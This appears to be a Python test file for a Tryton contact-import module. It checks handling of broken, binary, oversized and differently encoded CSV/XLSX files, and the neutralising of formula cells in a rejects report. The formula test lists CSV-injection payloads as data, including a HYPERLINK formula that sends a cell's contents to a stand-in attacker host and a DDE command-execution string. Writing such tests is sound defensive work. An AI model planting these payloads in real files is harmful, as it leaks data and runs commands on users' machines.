"""The tests of the files an import reads: unreadable, malformed, or
with cells that a spreadsheet would run.

Mixed into ConnexionImportTestCase (test_module.py), which activates the
modules once for all of them."""
import csv
import io
from decimal import Decimal

from trytond.pool import Pool
from trytond.tests.test_tryton import with_transaction

from ..cleaning import CleanError
from .tools import HEADER, ROWS, csv_bytes, errors_of, make_profile


class FileCases:
    @with_transaction()
    def test_malformed_files(self):
        "Unreadable files or missing columns import nothing"
        pool = Pool()
        Party = pool.get('party.party')
        Run = pool.get('connexion.import.run')
        profile = make_profile()
        parties = Party.search_count([])
        bad_header = csv_bytes(ROWS, header=['Ref', 'Nam', 'Firstname',
                'Mail', 'Tel', 'Zip', 'Town'])
        for data in [b'', bad_header, b'\x00\x01\x02binary\xff\xfe\x00']:
            with self.subTest(data=data[:10]):
                with self.assertRaises(CleanError):
                    Run.start(profile, 'f.csv', data)
        self.assertEqual(Party.search_count([]), parties)
        self.assertEqual(Run.search_count([]), 0)
        # A row with a stray separator is reported, the others imported.
        data = csv_bytes(ROWS[:1]) + b'D9;Roux;Paul;;;75001;Paris;extra\n'
        run, plan, _ = Run.start(profile, 'f.csv', data)
        self.assertEqual((run.created, run.rejected), (1, 1))
        self.assertIn('8', errors_of(run.error_file(plan))[3][0][2])

    @with_transaction()
    def test_rejects_neutralise_formulas(self):
        "Rejects report: cells a spreadsheet would run as formulas are text"
        import openpyxl

        from connexion_asso.spreadsheet import safe_cell
        pool = Pool()
        Run = pool.get('connexion.import.run')
        profile = make_profile()
        starts = ('=', '+', '-', '@', '\t', '\r')
        attacks = ['=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
            '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1',
            "=cmd|' /C calc'!A0"]
        for attack in attacks:
            with self.subTest(attack=attack):
                self.assertEqual(safe_cell(attack), "'" + attack)
        self.assertEqual(safe_cell('  =1+1'), "'  =1+1")
        self.assertEqual(safe_cell('Lyon'), 'Lyon')
        self.assertEqual(safe_cell(Decimal('-12.50')), '-12,50')
        self.assertEqual(safe_cell(-3), '-3')

        header = HEADER + ['=1+2']
        rows = [[f'X{i}', attack, attack, 'pas-un-courriel', '', '75001',
                attack, attack] for i, attack in enumerate(attacks)]
        # A row with a stray separator is copied whole too.
        rows.append(['X9', 'Roux', '-2+3', '', '', '75001', 'Paris', '@x',
                '=9'])
        run, plan, _ = Run.start(profile, 'f.csv',
            csv_bytes(rows, header=header), dry_run=True)
        self.assertEqual(plan.count('reject'), len(rows))
        content = run.error_file(plan).decode('utf-8-sig')
        cells = [c for row in csv.reader(io.StringIO(content, newline=''),
                delimiter=';') for c in row]
        self.assertEqual([c for c in cells if c.startswith(starts)], [])
        for cell in ["'=1+2", "'-1+1", "'+1+1", "'@SUM(1+1)", "'=9",
                "'-2+3", "'=cmd|' /C calc'!A0", "'=1+1",
                "'" + attacks[0]]:
            self.assertIn(cell, cells)

        # Numbers of a workbook stay numbers; text that starts like a
        # formula does not.
        workbook = openpyxl.Workbook()
        workbook.active.append(HEADER)
        workbook.active.append(['X1', 'Roux', 'Paul', 'pas-un-courriel',
                -612345678, '-5+1', -12.5])
        output = io.BytesIO()
        workbook.save(output)
        run, plan, _ = Run.start(profile, 'f.xlsx', output.getvalue(),
            dry_run=True)
        rows = list(csv.reader(io.StringIO(
                    run.error_file(plan).decode('utf-8-sig')),
                delimiter=';'))
        self.assertEqual(rows[1][4:], ['X1', 'Roux', 'Paul',
                'pas-un-courriel', '-612345678', "'-5+1", '-12,5'])

    @with_transaction()
    def test_unreadable_files_refused(self):
        "Broken, binary or oversized files: a French message, nothing saved"
        import random
        import zipfile

        import openpyxl

        from ..exceptions import ImportFileError
        pool = Pool()
        Party = pool.get('party.party')
        Run = pool.get('connexion.import.run')
        Key = pool.get('connexion.import.key')
        Wizard = pool.get('connexion.import.wizard', type='wizard')
        profile = make_profile()
        parties = Party.search_count([])

        def workbook(rows):
            book = openpyxl.Workbook()
            for row in rows:
                book.active.append(row)
            output = io.BytesIO()
            book.save(output)
            return output.getvalue()

        def broken(data, member):
            "The workbook with one XML part cut in half: a valid zip."
            source = zipfile.ZipFile(io.BytesIO(data))
            output = io.BytesIO()
            with zipfile.ZipFile(output, 'w') as target:
                for info in source.infolist():
                    content = source.read(info.filename)
                    if info.filename == member:
                        content = content[:len(content) // 2]
                    target.writestr(info, content)
            return output.getvalue()

        book = workbook([HEADER] + ROWS)
        many = [[f'N{i}', f'Nom{i}', 'Camille', '', '', '75001', 'Paris']
            for i in range(300)]
        nul = [list(r) for r in many]
        nul[250][1] = 'Mo\x00reau'
        unreadable = 'connexion_import.msg_file_unreadable'
        cases = [
            ('long cell', 'f.csv', csv_bytes(
                    ROWS[:1] + [['D9', 'x' * 200_000, 'a', '', '', '', '']]),
                'connexion_import.msg_file_cell_too_long'),
            ('open quote', 'f.csv', csv_bytes(ROWS) + b'D9;"Roux;Paul\n'
                + b'D10;Roux;Paul;;;;\n' * 20_000,
                'connexion_import.msg_file_cell_too_long'),
            ('broken sheet', 'f.xlsx',
                broken(book, 'xl/worksheets/sheet1.xml'), unreadable),
            ('broken workbook', 'f.xlsx', broken(book, 'xl/workbook.xml'),
                unreadable),
            ('not a workbook', 'f.xlsx', b'PK\x03\x04 not a workbook',
                unreadable),
            ('Excel 97', 'f.xls', bytes.fromhex('d0cf11e0a1b11ae1')
                + bytes(600), 'connexion_import.msg_file_xls'),
            ('binary', 'f.csv', random.Random(13).randbytes(5000),
                unreadable),
            ('binary without NUL', 'f.csv', bytes(
                    b for b in random.Random(14).randbytes(6000) if b),
                unreadable),
            ('NUL in a cell', 'f.csv', csv_bytes(nul),
                'connexion_import.msg_file_nul'),
            ('NUL at the start', 'f.csv', csv_bytes(
                    [['D1', 'Mo\x00reau', 'a', '', '', '', '']]),
                'connexion_import.msg_file_nul'),
            ('empty', 'f.csv', b'', 'connexion_import.msg_file_empty'),
            ('only a BOM', 'f.csv', b'\xef\xbb\xbf \r\n',
                'connexion_import.msg_file_empty'),
            ('empty workbook', 'f.xlsx', workbook([]),
                'connexion_import.msg_file_empty'),
            ('only the header', 'f.csv', csv_bytes([]),
                'connexion_import.msg_file_no_rows'),
            ('workbook with only the header', 'f.xlsx', workbook([HEADER]),
                'connexion_import.msg_file_no_rows'),
            ]
        for name, filename, data, message in cases:
            with self.subTest(name):
                with self.assertRaises(CleanError) as context:
                    Run.start(profile, filename, data)
                self.assertEqual(context.exception.message, message)
                # The back-office wizard shows it as a user error.
                session_id, _, _ = Wizard.create()
                wizard = Wizard(session_id)
                wizard.start.profile = profile
                wizard.start.file = data
                wizard.start.filename = filename
                with self.assertRaises(ImportFileError) as context:
                    wizard.transition_import_()
                self.assertTrue(context.exception.message)
                self.assertNotIn('connexion_import.',
                    context.exception.message)
                Wizard.delete(session_id)
        self.assertEqual(Party.search_count([]), parties)
        self.assertEqual(Run.search_count([]), 0)
        self.assertEqual(Key.search_count([]), 0)

    @with_transaction()
    def test_readable_files_read(self):
        "A CSV whose header starts with PK, Latin-1 or UTF-16 files are read"
        pool = Pool()
        Run = pool.get('connexion.import.run')
        profile = make_profile()
        rows = [['D1', 'Hélène', 'Loïc', '', '', '25000', 'Besançon']]
        for name, data in [
                ('PK column', csv_bytes(rows, header=['PK'] + HEADER[1:])),
                ('PK column, comma separated', csv_bytes(rows,
                        header=['PK'] + HEADER[1:], delimiter=',')),
                ('Latin-1', csv_bytes(rows, encoding='latin-1')),
                ('UTF-16', csv_bytes(rows, delimiter='\t',
                        encoding='utf-16')),
                ('UTF-16 without BOM', csv_bytes(rows, delimiter='\t',
                        encoding='utf-16-le')),
                ]:
            with self.subTest(name):
                run, plan, _ = Run.start(profile, 'f.csv', data,
                    dry_run=True)
                row, = plan.rows
                self.assertEqual(row.status, 'create', row.errors)
                self.assertEqual(row.values['name'], 'Loïc Hélène')
                self.assertEqual(row.values['city'], 'Besançon')
